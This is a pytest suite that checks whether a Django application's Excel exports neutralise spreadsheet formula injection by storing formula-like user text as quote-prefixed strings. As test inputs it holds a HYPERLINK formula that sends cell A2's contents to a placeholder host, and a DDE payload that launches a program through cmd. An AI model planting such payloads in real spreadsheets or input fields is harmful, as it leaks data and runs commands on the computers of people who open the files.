"""Hole 1 of issue 15: formula injection in Excel exports.

Text a user typed that starts like a formula (=, +, -, @, tab, CR) is written by every export as
text that no spreadsheet evaluates (a string cell with ``quotePrefix``), never as a formula, and
kept exactly as typed; numbers and dates keep their types. Each export path is walked.
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from gaoxin.core.excel import FORMULA_TRIGGERS, build_workbook
from gaoxin.projects.stages import Stage
from tests.factories import ClusterFactory, EnterpriseFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://x?"&A2,"详情")'
D = dt.date


def cells(content: bytes):
    book = load_workbook(BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula_and_text_kept(content: bytes, payload: str = PAYLOAD) -> list:
    """No cell is a formula (neither to openpyxl nor in the raw XML), and every cell holding
    the payload holds it intact, as a quote-prefixed string. Returns those cells."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    all_cells = list(cells(content))
    assert all(c.data_type != "f" for c in all_cells)
    holding = [c for c in all_cells if isinstance(c.value, str) and payload in c.value]
    assert holding, "the planted text is missing from the export"
    for cell in holding:
        assert cell.data_type == "s"
        assert not cell.value.startswith("'")  # intact: no apostrophe or other mark added
        if cell.value.startswith(FORMULA_TRIGGERS):
            assert cell.quotePrefix is True
    return holding


@pytest.mark.parametrize(
    "text", [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
)
def test_the_one_writer_stores_every_formula_trigger_as_quoted_text(text):
    content = build_workbook(
        "t",
        [("a", lambda r: r[0]), ("n", lambda r: r[1]), ("d", lambda r: r[2])],
        [(text, Decimal("12.50"), D(2026, 3, 1))],
    )
    # Everything comes back as written (a carriage return is stored escaped, so XML keeps it).
    (cell,) = assert_no_formula_and_text_kept(content, text)
    assert cell.quotePrefix is True
    row = next(load_workbook(BytesIO(content)).active.iter_rows(min_row=2))
    assert row[1].value == 12.5 and row[1].data_type == "n"
    assert row[2].is_date and row[2].value.date() == D(2026, 3, 1)


def test_ordinary_text_is_not_quote_prefixed_and_control_characters_are_dropped():
    content = build_workbook("t", [("a", lambda r: r)], ["海声尼克", "bad\x01char"])
    values = {c.value: c.quotePrefix for c in cells(content)}
    assert values == {"a": False, "海声尼克": False, "badchar": False}


def test_enterprise_export_keeps_a_legal_representative_as_text(client, staff):
    EnterpriseFactory(
        name="注入测试有限公司",
        legal_representative=PAYLOAD,
        registered_capital=Decimal("500.00"),
        established_on=D(2020, 5, 1),
    )
    client.force_login(staff)
    response = client.get("/enterprises/export/")
    assert response.status_code == 200
    (cell,) = assert_no_formula_and_text_kept(response.content)
    row = [c.value for c in cells(response.content) if c.row == cell.row]
    assert 500 in row and dt.datetime(2020, 5, 1) in row  # capital and date stay typed


def project(staff, name, **data):
    from gaoxin.projects.services import project_create

    return project_create(
        by=staff,
        data={"name": name, "prospective_investor": "某投资方", **data},
        stage=Stage.NEGOTIATING,
        on=D(2026, 3, 1),
    )


def test_project_export_keeps_a_project_name_as_text(client, staff):
    project(staff, PAYLOAD, total_investment=Decimal(12000), planned_start_on=D(2026, 9, 1))
    client.force_login(staff)
    response = client.get("/projects/export/")
    assert response.status_code == 200
    (cell,) = assert_no_formula_and_text_kept(response.content)
    row = {c.column: c.value for c in cells(response.content) if c.row == cell.row}
    assert row[10] == 12000.0  # total investment, a number
    assert row[15] == dt.datetime(2026, 9, 1)  # planned start, a date


def test_statistics_and_period_report_keep_a_cluster_name_as_text(client, staff, leader):
    cluster = ClusterFactory(code="inj", name=PAYLOAD)
    project(staff, "注入集群项目", cluster=cluster)
    client.force_login(staff)
    stats = client.get("/projects/statistics/", {"year": 2026, "span": "h1", "export": "xlsx"})
    assert stats.status_code == 200
    assert_no_formula_and_text_kept(stats.content)
    client.force_login(leader)
    report = client.get("/cockpit/report/?year=2026&span=h1&export=xlsx")
    assert report.status_code == 200
    assert all(c.data_type != "f" for c in cells(report.content))


def test_audit_export_keeps_an_entry_as_text(client, staff, admin_user):
    project(staff, PAYLOAD)
    client.force_login(admin_user)
    response = client.get("/platform/audit/?export=xlsx")
    assert response.status_code == 200
    holding = assert_no_formula_and_text_kept(response.content)
    assert any(c.value == PAYLOAD for c in holding)  # the object's name, as typed
    times = [c for c in cells(response.content) if c.column == 1 and c.row > 1]
    assert times and all(isinstance(c.value, dt.datetime) for c in times)


@pytest.fixture
def producing_key_project(staff, leader, enterprise, department, calendar, time_machine):
    from gaoxin.dispatch import services
    from gaoxin.projects.services import project_advance, project_create

    time_machine.move_to(dt.datetime(2026, 9, 15, 10, tzinfo=dt.UTC))
    created = project_create(
        by=staff, data={"name": PAYLOAD, "enterprise": enterprise}, on=D(2026, 1, 5)
    )
    key = services.key_project_add(
        year=2026, project=created, sponsor=leader, lead_department=department, by=staff
    )
    for stage, on in [
        ("negotiating", D(2026, 1, 10)),
        ("signed", D(2026, 2, 1)),
        ("under_construction", D(2026, 3, 1)),
        ("in_production", D(2026, 6, 20)),
    ]:
        project_advance(project=created, to_stage=stage, on=on, by=staff)
    created.refresh_from_db()
    return key


def test_dispatch_exports_keep_a_project_name_as_text(client, staff, producing_key_project):
    from gaoxin.dispatch import services

    services.ledger_enter(
        project=producing_key_project.project,
        month=D(2026, 8, 1),
        by=staff,
        data={
            "output_value": Decimal("1200.50"),
            "tax": Decimal("80"),
            "employees": 120,
            "investment_completed": Decimal("0"),
        },
    )
    client.force_login(staff)
    key_projects = client.get("/dispatch/key-projects/?year=2026&format=xlsx")
    assert key_projects.status_code == 200
    assert_no_formula_and_text_kept(key_projects.content)
    ledger = client.get("/dispatch/ledger/?month=2026-08&format=xlsx")
    assert ledger.status_code == 200
    (cell,) = assert_no_formula_and_text_kept(ledger.content)
    row = {c.column: c.value for c in cells(ledger.content) if c.row == cell.row}
    assert row[1] == 1 and row[5] == 1200.5 and row[9] == 120  # numbers stay numbers


def test_catalogue_export_keeps_an_item_name_as_text(client, admin_user, department):
    from gaoxin.affairs import services

    services.item_create(
        by=admin_user,
        data={
            "code": "3711009901",
            "name": PAYLOAD,
            "department": department,
            "legal_limit_days": 20,
            "promised_limit": 5,
            "notes": "-5 天内办结",
        },
        materials=[{"name": "@营业执照", "essential": True}],
    )
    client.force_login(admin_user)
    response = client.get("/affairs/items/?format=xlsx")
    assert response.status_code == 200
    assert_no_formula_and_text_kept(response.content)
    assert_no_formula_and_text_kept(response.content, "-5 天内办结")
    limits = [c for c in cells(response.content) if c.column == 4 and c.row > 1]
    assert [c.value for c in limits] == [20]


def test_the_ledger_template_keeps_a_cluster_name_as_text(client, staff):
    ClusterFactory(code="inj", name=PAYLOAD)
    client.force_login(staff)
    response = client.get("/projects/import/template/")
    assert response.status_code == 200
    holding = assert_no_formula_and_text_kept(response.content)
    assert holding[0].value.startswith(PAYLOAD)  # the allowed clusters, listed in the notes
    book = load_workbook(BytesIO(response.content))
    example = [c.value for c in book["项目台账"][2]]
    assert example[8] == 20000  # the example amounts stay numbers
